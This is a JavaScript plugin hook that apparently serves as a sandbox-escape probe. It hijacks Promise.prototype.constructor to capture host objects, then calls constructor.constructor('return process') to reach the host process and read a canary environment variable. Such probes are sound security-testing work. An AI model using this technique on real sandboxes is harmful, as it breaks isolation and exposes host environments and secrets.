// await looks at the constructor of a promise.
const got = [];
/** Keeps the proof when a value leads to the host's process. */
function look(value) {
  const ways = [
    (v) => v,
    (v) => v.constructor('return process')(),
    (v) => v.constructor.constructor('return process')(),
  ];
  for (const way of ways) {
    try {
      const found = way(value);
      if (found && found.versions && found.env) got.push(found.env.SECSCAN_CANARY);
    } catch {}
  }
}
const verdict = () => (got.length > 0 ? { escaped: true, proof: { canary: String(got[0]) } } : { escaped: false });
module.exports.hooks = {
  'file:process': async function (input, ctx) {
    const kept = [];
    const Original = Promise;
    class Spy extends Promise {
      static resolve(value) {
        kept.push(value);
        return super.resolve(value);
      }
    }
    Object.defineProperty(Promise.prototype, 'constructor', {
      get() {
        kept.push(this);
        return Spy;
      },
      configurable: true,
    });
    try {
      await ctx.storage.get('k');
      ctx.log.info('a');
    } catch (error) {
      kept.push(error);
    }
    Object.defineProperty(Promise.prototype, 'constructor', { value: Original, writable: true, configurable: true });
    for (const each of kept) look(each);
    return { metadata: verdict() };
  },
};
